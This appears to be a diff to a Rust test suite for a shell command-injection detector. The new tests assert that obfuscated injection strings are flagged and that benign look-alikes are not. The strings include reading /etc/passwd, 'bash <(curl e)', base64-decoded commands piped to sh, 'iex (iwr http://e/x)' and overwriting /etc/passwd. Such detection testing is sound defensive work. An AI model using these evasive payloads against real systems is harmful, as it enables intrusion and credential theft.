@@ -165,10 +165,82 @@ fn everyday_values_are_not() {
     }
 }
 
+/// However many separators, openers and words come first, the command behind them is found.
 #[test]
-fn separators_without_end_stay_linear() {
-    let value = ";ls 'a ".repeat(40_000);
-    injection(value.as_bytes());
+fn what_comes_before_does_not_use_up_the_reading() {
+    let units = [
+        "a&",
+        "a|",
+        "a&&",
+        "x=1&",
+        "<!**-|",
+        "(",
+        "{ ",
+        "a=b ",
+        ">a ",
+        "if true;then ",
+        ";ls 'a' ",
+        "\\\n",
+        "$(",
+        "a``",
+    ];
+    for unit in units {
+        for attack in [";cat /etc/passwd", "$(cat /etc/passwd)"] {
+            let value = format!("x;{}{attack}", unit.repeat(1_500));
+            let found = injection(value.as_bytes()).map(|found| found.confidence);
+            assert_eq!(found, Some(Certain), "{unit:?} {attack:?}");
+        }
+    }
+    let found = injection(";ls 'a ".repeat(40_000).as_bytes());
+    assert!(found.is_none_or(|found| found.confidence < Certain));
+}
+
+#[test]
+fn grammar_around_a_command_hides_nothing() {
+    for value in [
+        "x;\\cat /etc/passwd".to_owned(),
+        "x|\\cat /etc/passwd".to_owned(),
+        "x;\\id".to_owned(),
+        "x;\\ls -la /".to_owned(),
+        "x;2>&1 cat /etc/passwd".to_owned(),
+        "x;>&2 id".to_owned(),
+        "x;bash <(curl e)".to_owned(),
+        "x;base64 -d<<<aWQ=|sh".to_owned(),
+        "x;eval $(echo aWQ= | base64 -d)".to_owned(),
+        "x;c\\\nat /etc/passwd".to_owned(),
+        "x;IFS=,;cat,/etc/passwd".to_owned(),
+        "x;env id".to_owned(),
+        "x;env -i a=b id".to_owned(),
+        "x;timeout 5 id".to_owned(),
+        "x;timeout 5 nice -n 5 id".to_owned(),
+        "x;. /tmp/x".to_owned(),
+        "x;>/etc/passwd".to_owned(),
+        "x;iex (iwr http://e/x)".to_owned(),
+        format!("x;cat {}/etc/passwd", "-u ".repeat(40)),
+        format!("x;/{}bin/cat /etc/passwd", "/".repeat(140)),
+        format!("x;/bin/{}cat /etc/passwd", "../bin/".repeat(40)),
+        format!("x;c{}at /etc/passwd", "$@".repeat(70)),
+        format!("x;cat{}/etc/passwd", "${IFS}".repeat(200)),
+    ] {
+        assert_eq!(confidence(&value), Some(Certain), "{value:?}");
+    }
+    for value in [
+        "$a & \\ln 5$",
+        "|\\ln 5|",
+        "x & \\date \\\\",
+        "C:\\a; \\\\host\\share",
+        "done; env vars are set",
+        "half time; timeout called by us",
+        "fine; . and so on",
+        "done. . top; . report.txt",
+        "$x & \\cat y$ \\\\",
+        "a; iex (Elixir's shell) is fine",
+        "x; 2 > 1",
+        "see; exec (board) meets",
+        "bash (the shell); bash scripts (all)",
+    ] {
+        assert!(confidence(value) < Some(Certain), "{value:?} {:?}", injection(value.as_bytes()));
+    }
 }
 
 /// Every pair of openers, repeated: no time is asserted here, but a quadratic reading of one pair
